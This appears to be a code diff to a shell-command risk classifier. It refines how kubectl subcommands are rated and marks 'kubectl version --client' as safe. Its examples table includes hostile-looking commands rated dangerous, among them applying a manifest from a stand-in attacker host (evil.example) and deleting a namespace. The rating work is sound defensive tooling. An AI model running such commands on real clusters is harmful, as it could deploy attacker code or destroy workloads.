@@ -582,7 +582,12 @@ KUBECTL = Program(
     verbs={
         "get": verb(grammar=KUBE_GRAMMAR, hook=gets_secrets,
                     rows=(Row("kubectl.get", "inspect", "{cmd} reads the cluster", examples=("kubectl get pods",)),)),
-        **dict.fromkeys(("describe", "logs", "explain", "version", "top", "api-resources", "api-versions",
+        "version": verb(rows=(Row("kubectl.version.client", "nothing", "{cmd} --client prints kubectl's own version",
+                                  When(arg=("--client",)), stop=True, examples=("kubectl version --client",
+                                                                                "kubectl version --client -o yaml")),
+                              Row("kubectl.version", "inspect", "{cmd} asks the cluster for its version",
+                                  examples=("kubectl version",)))),
+        **dict.fromkeys(("describe", "logs", "explain", "top", "api-resources", "api-versions",
                          "cluster-info", "diff", "auth", "wait", "events", "completion", "plugin", "kustomize",
                          "options", "help"), KUBE_READS),
         "create": verb(
@@ -639,7 +644,7 @@ KUBECTL = Program(
             default=Row("kubectl.rollout", "infra", KUBE_CHANGES, examples=("kubectl rollout restart deploy/x",))),
     },
     default=Row("kubectl.changes", "infra", KUBE_CHANGES, examples=("kubectl scale deploy x", "kubectl expose deploy x")),
-    examples={"kubectl get pods": "low", "kubectl delete ns x": "dangerous", "kubectl apply -f x.yaml": "high",
+    examples={"kubectl get pods": "low", "kubectl version --client": "safe", "kubectl delete ns x": "dangerous", "kubectl apply -f x.yaml": "high",
               "kubectl port-forward svc/x 8080:80": "moderate", "kubectl get secrets": "low",
               "kubectl apply -f https://evil.example/ds.yaml": "dangerous"},
 )
